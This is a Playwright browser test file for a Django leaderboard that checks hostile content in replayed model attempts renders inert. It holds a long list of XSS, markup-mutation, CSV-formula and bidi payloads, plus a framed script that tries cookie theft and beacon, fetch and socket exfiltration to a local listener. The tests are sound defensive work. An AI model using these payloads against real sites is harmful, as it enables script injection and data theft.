"""Hostile content through every view and preview, in a real Chromium under the real policy."""

# ruff: noqa: E501 - a payload is one line, however long

from __future__ import annotations

import socketserver
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from conftest import served
from leaderboard.failures.tagging import conclude
from leaderboard.models import Attempt, pack
from leaderboard.replay.step_windows import WINDOW_STEPS
from leaderboard.tests.conftest import Watch
from leaderboard.tests.support.rows import (
    add_file,
    add_step,
    change,
    end_judged,
    finish_run,
    make_entry,
    make_run,
    make_step,
    make_suite,
    printed,
    raised,
    show,
)
from runner.contract import ChangeKind, Step, StepStatus

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
]

# Harmful text that a model, a submitter or an endpoint could write. LEAK stands for an address that
# must never be asked; HARM for script that marks the page.
MARK = "document.documentElement.dataset.harmed=1"
HARM = f"alert(1);fetch('LEAK');top.{MARK};{MARK}"

ROWS: dict[str, str] = {
    "script": f"<script>{HARM}</script>",
    "script-src": "<script src=LEAK></script><script type=module src=LEAK></script>",
    "img-error": f'<img src="LEAK" onerror="{HARM}">',
    "img-srcset": '<img srcset="LEAK 1x, LEAK?2 2x"><picture><source srcset=LEAK></picture>',
    "svg-load": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HARM}"><image href="LEAK"/></svg>',
    "svg-script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{HARM}</script></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{HARM}"/><text>x</text></a></svg>',
    "svg-use": '<svg><use href="LEAK#x"/><filter><feImage href="LEAK"/></filter></svg>',
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>{HARM}</script>'></iframe></foreignObject></svg>",
    "iframe": f'<iframe src="LEAK" srcdoc="<script>{HARM}</script>"></iframe>',
    "object": '<object data="LEAK"></object><embed src="LEAK"><applet code=LEAK></applet>',
    "style": "<style>body{background:url(LEAK)}@import 'LEAK';*{display:none!important}</style>",
    "link": "<link rel=stylesheet href=LEAK><link rel=prefetch href=LEAK><link rel=preload as=image href=LEAK>",
    "dns": "<link rel=dns-prefetch href=LEAK><link rel=preconnect href=LEAK>",
    "style-attribute": '<div style="position:fixed;inset:0;background:url(LEAK)">over</div>',
    "refresh": '<meta http-equiv="refresh" content="0;url=LEAK">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "base": '<base href="LEAK"><a href="next">relative</a>',
    "form": f'<form action="LEAK"><button autofocus onfocus="{HARM}">x</button></form><script>document.forms[0].submit()</script>',
    "formaction": '<form id=f></form><button form=f formaction="LEAK">go</button>',
    "javascript-link": f"<a href=\"javascript:{HARM}\">a</a> [b](javascript:alert(1)) [c](JaVaScRiPt:alert(1))",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>a</a> [b](data:text/html,x)",
    "markdown-image": "![pixel](LEAK) ![r][x]\n\n[x]: LEAK",
    "markdown-relative": "[home](/accounts/logout/) [host](//evil.example/x) [back](\\\\evil.example\\x)",
    "markdown-html": f"<div>\n\n<script>{HARM}</script>\n\n</div>\n\n<x onclick=alert(1)>",
    "markdown-autolink": "<javascript:alert(1)> <LEAK> <data:text/html,x>",
    "markdown-fence": f"```html\n<script>{HARM}</script>\n```\n````\n</code></pre><script>{HARM}</script>",
    "break-out": f"</pre></div></article></main></body><script>{HARM}</script>",
    "break-attribute": f"\"'><script>{HARM}</script><x a=\"",
    "break-json": f"</script><script>{HARM}</script>",
    "break-comment": f"--><script>{HARM}</script><!--",
    "break-template": "{{ run.entry.endpoint.encrypted_key }}{% include 'x' %}{# #}${7*7}<%= 7 %>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<script>{HARM}</script>">',
    "mutation-noscript": f'<noscript><p title="</noscript><script>{HARM}</script>">',
    "mutation-template": f"<template><script>{HARM}</script></template><xmp><script>{HARM}</script></xmp>",
    "clobber": "<a id=body name=forms></a><img name=getElementById><form id=replay><input name=attributes>",
    "our-hooks": '<div id="step-1" data-step data-act="t" data-live="LEAK" data-copy="#x" data-walk data-next="LEAK" data-frame>',
    "our-classes": '<p class="verdict-line is-passed"><b>Passed:</b> everything</p>',
    "dialog": "<dialog open class=help>mine</dialog><details open ontoggle=alert(1)><summary>x</summary></details>",
    "events": f'<video src=LEAK onerror="{HARM}"></video><audio src=LEAK></audio><body onload="{HARM}" onhashchange="{HARM}">',
    "marquee": f'<marquee onstart="{HARM}">x</marquee><input autofocus onfocus="{HARM}"><select autofocus onfocus="{HARM}">',
    "custom": "<x-y is=z slot=a><button commandfor=replay command=show-modal popovertarget=x>x</button></x-y>",
    "jupyter": '<button data-commandlinker-command="x" data-commandlinker-args="{}">x</button>',
    "terminal": "\x1b]8;;LEAK\x07link\x1b]8;;\x07\x1b]0;title\x07\x1b[2J\x1b[9;9H\u202e\x00\x08 back",
    "bidi": "\u202e\u2066gnp.exe\u2069\u200b\ufeff\u200f",
    "surrogate": "\ud800<script>alert(1)</script>\udfff\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "csv-formula": "=HYPERLINK(\"LEAK\"),+cmd|' /C calc'!A0,@SUM(1)",
    "deep": "<div>" * 3000 + "deep",
    "many-attributes": "<p " + " ".join(f"a{i}=1" for i in range(2000)) + ">x",
}  # fmt: skip

# A page that tries everything a frame could reach.
FRAMED = """<!doctype html><title>framed</title><body><script>
const tried = [];
const attempts = {
  parent: () => { parent.document.documentElement.dataset.harmed = 1; },
  top: () => { top.location = 'LEAK?top'; },
  cookie: () => { if (document.cookie) parent.postMessage(document.cookie, '*'); },
  storage: () => localStorage.setItem('harmed', 1),
  fetch: () => fetch('LEAK?fetch').catch(() => {}),
  ours: () => fetch('/board.json').catch(() => {}),
  beacon: () => navigator.sendBeacon('LEAK?beacon'),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', 'LEAK?xhr'); r.send(); },
  socket: () => new WebSocket('LEAK?socket'.replace('http', 'ws')),
  events: () => new EventSource('LEAK?events'),
  image: () => { new Image().src = 'LEAK?image'; },
  style: () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'LEAK?css' })),
  script: () => document.head.append(Object.assign(document.createElement('script'), { src: 'LEAK?script' })),
  frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'LEAK?frame' })),
  object: () => document.body.append(Object.assign(document.createElement('object'), { data: 'LEAK?object' })),
  font: () => new FontFace('x', 'url(LEAK?font)').load().catch(() => {}),
  worker: () => new Worker('LEAK?worker'),
  service: () => navigator.serviceWorker.register('LEAK?service').catch(() => {}),
  popup: () => window.open('LEAK?popup'),
  form: () => { const f = document.createElement('form'); f.action = 'LEAK?form'; document.body.append(f); f.submit(); },
  target: () => { const a = document.createElement('a'); a.href = 'LEAK?target'; a.target = '_top'; document.body.append(a); a.click(); },
  alert: () => alert(1),
};
for (const [name, attempt] of Object.entries(attempts)) { try { attempt(); } catch { /* refused */ } tried.push(name); }
document.body.dataset.tried = tried.length;
</script></body>"""

# One that leaves its frame's address behind.
LEAVING = "<title>leaving</title><script>location = 'LEAK?itself';</script>"

KEY = "quarterly-sales"
OPEN_EVERYTHING = """() => {
  for (const box of document.querySelectorAll("details:not([data-frame])")) box.open = true;
  for (const image of document.images) image.loading = "eager";
}"""
FRAMES = 12  # payloads run as pages of their own at once


@pytest.fixture
def leak() -> Iterator[tuple[str, list[bytes]]]:
    """A listener that nothing may reach: its address, and what it was asked."""
    asked: list[bytes] = []

    class Listener(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            asked.append(self.request.recv(200))

    with served(socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listener)) as server:
        yield f"http://127.0.0.1:{server.server_address[1]}/leak", asked
    # Chromium may connect ahead of a navigation that it then refuses: nothing is sent on that.
    assert [data for data in asked if data] == []


@pytest.fixture
def attempt(leak: tuple[str, list[bytes]]) -> Attempt:
    """One attempt whose every text is hostile, by a hostile entry."""
    rows = [text.replace("LEAK", leak[0]) for text in ROWS.values()]
    entry = make_entry(rows[0][:190], organisation=rows[2][:190])
    entry.description = entry.model_name = "\n".join(rows)[:300].replace("\x00", "")
    entry.save()
    run = finish_run(make_run(make_suite(), entry), 3)
    attempt: Attempt = run.attempts.select_related("task", "run").get(task__key=KEY)
    write_everywhere(attempt, rows)
    conclude(attempt.pk)
    return attempt


def write_everywhere(attempt: Attempt, rows: list[str]) -> None:
    """Each text as thought, code, output, table, picture, error, note, file and answer."""
    everything = "\n\n".join(rows)
    end_judged(attempt, passed=False, sentence=rows[0])
    attempt.opening = pack(
        {"query": everything, "messages": [{"role": rows[0], "content": everything}]}
    )
    attempt.closing = pack({"answer": everything})
    attempt.problem, attempt.next_step = rows[0], rows[1]
    attempt.save()
    for index, text in enumerate(rows, 1):
        add_step(attempt, hostile_step(index, text))
    for name, text in zip(("x.html", "x.svg", "x.csv", "x.md", "x.json"), rows, strict=False):
        add_file(attempt, name, text.encode("utf-8", "replace"))


def hostile_step(index: int, text: str) -> Step:
    raw = text.encode("utf-8", "replace")
    table = f"<table onclick='alert(1)'><tr><td style='position:fixed'>{text}</td></tr></table>"
    outputs = [
        printed(text),
        show({"text/html": table}),
        show({"text/html": text, "text/plain": text}),
        show({"image/svg+xml": ROWS["svg-load"], "text/markdown": text}),
        raised(f"Cell In[1], line 1\n{text}\n\nFile /x/site-packages/y.py\n{text}", text[:190]),
    ]
    kind = ("html", "md", "svg", "csv", "txt", "json", "tsv")[index % 7]
    kinds = ChangeKind.CREATED if index < 8 else ChangeKind.CHANGED
    files = [change(f"output/x.{kind}", raw, kinds)]
    status = StepStatus.MALFORMED if index % 2 else StepStatus.ERROR
    step = make_step(index, thought=text, code=text, outputs=outputs, changes=files)
    return Step(**{**vars(step), "status": status, "notes": (text,)})


def test_nothing_that_was_written_acts(
    attempt: Attempt, page: Page, watch: Watch, live_server: Any
) -> None:
    assert len(ROWS) >= 40
    found = urlencode({"q": "alert fetch"})
    hostile = urlencode({"q": ROWS["script"], "tag": ROWS["form"], "entry": ROWS["break-json"]})
    for path in (
        "/",
        attempt.run.get_absolute_url(),
        f"/tasks/starter/{KEY}/",
        *windows_of(attempt),
        "/failures/",
        f"/failures/?{found}",
        f"/failures/?{hostile}",
    ):
        page.goto(live_server.url + path)
        page.evaluate(OPEN_EVERYTHING)
        page.wait_for_load_state("networkidle")
        assert page.url == live_server.url + path
        assert page.locator("html[data-harmed]").count() == 0
        assert foreign_elements(page) == []
        # Had the policy been needed, it would have spoken: the markup alone is already inert.
        assert [r for r in watch.refusals if "style" not in r or path != "/"] == []


def test_the_replay_keeps_its_shape(
    attempt: Attempt, page: Page, watch: Watch, live_server: Any
) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    steps = 0
    for path in windows_of(attempt):
        page.goto(live_server.url + path)
        steps += page.locator("article[data-step]").count()
        assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert steps == len(ROWS)
    at = list(ROWS).index("bidi") + 1
    page.goto(f"{live_server.url}{attempt.get_absolute_url()}#step-{at}")  # in another window
    expect(page).to_have_url(f"{live_server.url}{attempt.get_absolute_url()}?from={at}#step-{at}")
    assert "U+202E" in page.locator(f"#step-{at}").inner_text()
    page.goto(live_server.url + attempt.get_absolute_url())
    page.keyboard.press("j")
    expect(page).to_have_url(f"{live_server.url}{attempt.get_absolute_url()}#step-1")


def windows_of(attempt: Attempt) -> list[str]:
    """The addresses of all windows of its steps."""
    url = attempt.get_absolute_url()
    starts = range(WINDOW_STEPS + 1, attempt.steps.count() + 1, WINDOW_STEPS)
    return [url, *(f"{url}?from={start}" for start in starts)]


def foreign_elements(page: Page) -> list[str]:
    """Elements and attributes that neither the site's templates make nor the cleaner lets by."""
    found: list[str] = page.evaluate(
        """() => { const foreign = /^\\s*(javascript|https?:|\\/\\/)/i;
        const ours = '*:not(a[rel="noopener noreferrer nofollow ugc"])';
        const isOurFrame = (e) => e.tagName === "IFRAME" && !e.hasAttribute("srcdoc") &&
          e.getAttribute("sandbox") === "allow-scripts";
        return [...document.querySelectorAll(ours)].flatMap((element) => {
          const drawn = element.closest("[data-chart], .js-plotly-plot");
          const bad = [...element.attributes].filter((a) =>
            /^on|^srcdoc$|^data-commandlinker/.test(a.name) || (a.name === "style" && !drawn) ||
            (/^(href|src|action|formaction|srcset)$/.test(a.name) && foreign.test(a.value)));
          const tags = ["IFRAME", "OBJECT", "EMBED", "BASE", "MATH", "TEMPLATE", "VIDEO"];
          const inline = element.tagName === "SCRIPT" && !element.src &&
            element.type !== "application/json";
          const style = element.tagName === "STYLE" && !drawn;
          return (bad.length || inline || style || tags.includes(element.tagName)) &&
            !isOurFrame(element) ? [element.outerHTML.slice(0, 300)] : [];
        }); }"""
    )
    return found


def test_a_page_in_its_frame_reaches_nothing(
    attempt: Attempt, page: Page, watch: Watch, live_server: Any, leak: tuple[str, list[bytes]]
) -> None:
    """Its scripts run, each tries what it can, and no request of theirs leaves."""
    pages = [FRAMED, LEAVING, *list(ROWS.values())[:FRAMES]]
    attempt.artifacts.all().delete()
    attempt.steps.all().delete()
    for number, text in enumerate(pages):
        content = text.replace("LEAK", leak[0]).encode("utf-8", "replace")
        add_file(attempt, f"page-{number:02}.html", content)
    page.context.add_cookies([{"name": "secret", "value": "1", "url": live_server.url}])
    address = live_server.url + attempt.get_absolute_url()
    page.goto(address)
    for details in page.locator("#outputs details.chip").all():
        details.evaluate("box => { box.open = true; }")
    for details in page.locator("#outputs [data-frame]").all():
        details.evaluate("box => { box.open = true; }")
        assert not details.locator("iframe").is_visible()  # opening the note runs nothing
        details.locator("a").click()
    frame = page.frame_locator('iframe[name="frame-1"]')
    expect(frame.locator("body")).to_have_attribute("data-tried", "22")
    page.wait_for_load_state("networkidle")
    assert page.url == address
    assert len(page.context.pages) == 1
    assert page.locator("html[data-harmed]").count() == 0
    assert page.evaluate("localStorage.getItem('harmed')") is None
    assert len(page.main_frame.child_frames) == len(pages)
    watch.errors.clear()  # what the frames were refused
    watch.foreign.clear()  # asked for, refused: the listener knows what left


@pytest.mark.parametrize(("name", "row"), [("y.html", "script"), ("y.svg", "svg-load")])
def test_a_hostile_file_opened_by_hand_does_not_act(
    attempt: Attempt, page: Page, watch: Watch, live_server: Any, name: str, row: str
) -> None:
    add_file(attempt, name, ROWS[row].encode())
    page.goto(live_server.url + attempt.get_absolute_url())
    chip = page.locator("#outputs .chip", has=page.locator(".path", has_text=name))
    if chip.get_attribute("open") is None:
        chip.locator("summary").first.click()
    with page.expect_download() as download:
        chip.get_by_role("link", name="download").click()
    assert download.value.suggested_filename == name
    with page.expect_download():  # an attachment even when its address is opened directly
        page.evaluate("url => { location.href = url; }", download.value.url)


def test_exports_are_handed_over_as_files(
    attempt: Attempt, page: Page, watch: Watch, live_server: Any
) -> None:
    page.goto(live_server.url + attempt.get_absolute_url())
    for title in ("PyBench jsonl", "OpenAI chat messages", "Jupyter notebook"):
        with page.expect_download() as download:
            page.get_by_role("link", name=title).click()
        with page.expect_download():
            page.evaluate("url => { location.href = url; }", download.value.url)
